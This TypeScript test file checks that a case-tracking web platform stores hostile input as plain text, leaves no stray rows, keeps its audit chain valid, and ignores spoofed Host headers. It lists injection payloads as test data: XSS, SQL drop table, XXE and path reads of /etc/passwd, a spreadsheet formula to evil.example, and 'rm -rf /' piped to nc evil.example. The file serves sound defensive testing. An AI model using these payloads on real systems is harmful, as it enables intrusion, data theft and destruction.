import { afterAll, describe, expect, test } from 'vitest'
import { verifyAudit } from '../../src/platform/audit/verify-audit.ts'
import { withSession } from '../../src/platform/db/engine.ts'
import { testWorker } from '../support/app.ts'
import type { Hostile } from './hostile.ts'
import { aCase, openHostileWorld } from './hostile-world.ts'
import { casesOfOthers, keysOfNobody, linksOfOthers, pagesOfOthers, workOfOthers } from './of-others.ts'
import { answers, bodies } from './on-pages.ts'
import { addresses, fields, tokensAndJson } from './on-the-api.ts'

const world = await openHostileWorld()
const before = await rowsInEachTable()
afterAll(() => world.close())

async function ask<R>(text: string): Promise<R[]> {
  return withSession(world.engine, async (s) => (await s.query<R>(text)).rows)
}

/** How many rows each table holds that a hostile input could add to or take from; a visit, its drafts, the tries counted at a door and who is looking at a case may come and go. */
async function rowsInEachTable(): Promise<Record<string, number>> {
  const tables = await ask<{ name: string }>(`select format('%I.%I', schemaname, tablename) as name from pg_tables
    where schemaname not in ('pg_catalog', 'information_schema', 'queue')
    and tablename not in ('draft', 'link', 'session', 'visit_grant', 'presence', 'tries')`)
  // That somebody asked for a link in vain is noted, so that being told apart by the time it takes is not possible.
  const noted = (name: string) => (name === 'platform.audit_event' ? `where event <> 'link.asked-in-vain'` : '')
  const each = tables.map(({ name }) => `select '${name}' as name, count(*)::int as n from ${name} ${noted(name)}`)
  const counted = await ask<{ name: string; n: number }>(each.join(' union all '))
  return Object.fromEntries(counted.map(({ name, n }) => [name, n]))
}

const ENTITIES: Record<string, string> = { '&amp;': '&', '&lt;': '<', '&gt;': '>', '&quot;': '"', '&#39;': "'" }
const asRead = (html: string) => html.replaceAll(/&(amp|lt|gt|quot|#39);/g, (entity) => ENTITIES[entity] ?? entity)
const INNER = /syntax error|invalid input syntax|violates|node_modules|\.tsx?:\d|stack/i

const groups: [string, Hostile[]][] = [
  ['typed into a form', [...bodies(world), ...answers(world)]],
  ['sent to the API', [...tokensAndJson(world), ...fields(world), ...addresses(world)]],
  [
    'reaching for what is somebody else’s',
    [
      ...casesOfOthers(world),
      ...linksOfOthers(world),
      ...workOfOthers(world),
      ...pagesOfOthers(world),
      ...keysOfNobody(world)
    ]
  ]
]

test('there are more than a hundred, each under a name of its own', () => {
  const names = groups.flatMap(([group, inputs]) => inputs.map(([name]) => `${group}: ${name}`))
  expect(new Set(names).size).toBe(names.length)
  expect(names.length).toBeGreaterThan(150)
})

describe.each(groups)('%s', (_group, inputs) => {
  test.each(inputs)('%s', async (_name, send, status, words) => {
    const answered = await send()
    const said = String(answered.headers['content-type']).startsWith('text/html')
      ? asRead(answered.body)
      : answered.body
    expect([answered.statusCode, said]).toEqual([status, expect.stringContaining(words)])
    expect(said).not.toMatch(INNER)
    if (status === 303) expect(answered.headers.location).toMatch(/^\/(sign-in\?next=|raise)/)
  })
})

test('the wrong address for a reference is answered as a reference of nobody is, and nothing is sent', async () => {
  const { reference } = world.theirs
  const asked = await world.visitor().fill('/track', { reference, email: 'thief@business.example' })
  const queued = await ask(`select 1 from platform.audit_event where event = 'case.link-asked'`)
  expect(queued).toEqual([])
  const unknown = await world.visitor().fill('/track', { reference: 'SO-2222-2222', email: 'thief@business.example' })
  const seen = ({ statusCode, body }: { statusCode: number; body: string }) => [
    statusCode,
    body.replaceAll(/name="_csrf" value="[^"]+"/g, '')
  ]
  expect(seen(asked)).toEqual(seen(unknown))
  expect(asked.statusCode).toBe(200)
})

test('all of that left nothing behind, and the audit chain is whole', async () => {
  expect(await rowsInEachTable()).toEqual(before)
  const marks = await ask(
    `select 1 from platform.draft where answers::text ~ '[\\u0001-\\u0008\\u0085\\u200f\\u202a-\\u202e\\u2066-\\u2069\\uffff]'`
  )
  expect(marks).toEqual([])
  expect(await verifyAudit(world.engine)).toMatchObject({ valid: true })
})

describe('words that look hostile are words: kept to the letter, shown as text, and nothing is run', () => {
  test.each([
    ['HTML', '<script>alert(1)</script><img src=x onerror=alert(1)> is on our page'],
    ['HTML that ends ours', '</p></main></body><h1>Taken over</h1> says a rival'],
    ['an attribute', '" onmouseover="alert(1)" x=" appears in the letter'],
    ['a link', 'They wrote: <a href="javascript:alert(document.cookie)">pay here</a>'],
    ['SQL', `Robert'); drop table cases.case; -- is how we are written on the register`],
    ['a formula', '=HYPERLINK("http://evil.example","Click")+cmd|\' /C calc\'!A0 is in cell A1'],
    ['a template', '{{constructor.constructor("return 1")()}} $\u007b7*7} <%= 7*7 %> was printed'],
    ['a format', '%s %n %d %x %1$s came back where our name should be'],
    ['a path', '../../../../etc/passwd was attached; also C:\\Windows\\System32'],
    ['a command', '`rm -rf /`; $(reboot) | nc evil.example 99 stood in the form'],
    ['XML with an entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:/etc/passwd">]><a>&x;</a>'],
    ['entities', '&lt;b&gt; &amp;amp; &#x3c;script&#x3e; is what we see instead'],
    ['words that mean nothing to programs', 'null undefined NaN true [object Object] none'],
    ['Arabic and Hebrew without marks', 'رفض طلبنا مرتين دون سبب ואין עם מי לדבר'],
    ['emoji in families, and combined letters', 'Our shop 👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿 Zoe\u0308 na\u0303o e\u0301 was refused'],
    ['a left-to-right mark, as copied from a letter', 'Reference \u200eAB12 was never answered'],
    ['one endless word', `aaaaaaaaaaaaaaaa${'a'.repeat(7900)}`],
    ['many lines', `One line${'\n'.repeat(500)}and another line`]
  ])('%s', async (_what, text) => {
    const raised = await world.api(
      aCase({
        text,
        business: { name: text.slice(0, 150).trim() },
        contact: { name: text.slice(0, 100).trim(), email: 'ada@business.example' }
      })
    )
    expect(raised.statusCode).toBe(201)
    const { reference } = raised.json()
    const [kept] = await ask<{ words: string }>(`select words from cases.case where reference = '${reference}'`)
    expect(kept?.words).toBe(text)

    const shown = await (await world.desk()).get(`/cases/${reference}`)
    expect(shown.statusCode).toBe(200)
    expect(asRead(shown.body)).toContain(text)
    expect(shown.body).not.toMatch(/<script>|<img src=x|<h1>Taken|onmouseover="|<a href="javascript|<!ENTITY/)
  })

  test('a letter about it goes to one address, and its link to ours whatever Host the caller claims', async () => {
    const raised = await world.api(aCase({ text: 'Where does the link of this one lead to?' }), {
      headers: { host: 'evil.example', 'x-forwarded-host': 'evil.example' }
    })
    const worker = await testWorker(world.engine)
    await worker.drained()
    await worker.stop()
    const { reference } = raised.json()
    const letters = await ask<{ to_address: string; body: string }>(
      `select m.to_address, m.body from platform.mail m join cases.case c on c.id::text = m.about_id where c.reference = '${reference}'`
    )
    expect(letters).toMatchObject([{ to_address: 'ada@business.example' }])
    expect(letters[0]?.body).toMatch(/http:\/\/localhost:3000\/track\/open\/[\w-]{43}/)
    expect(letters[0]?.body).not.toContain('evil.example')
    expect(await verifyAudit(world.engine)).toMatchObject({ valid: true })
  })
})
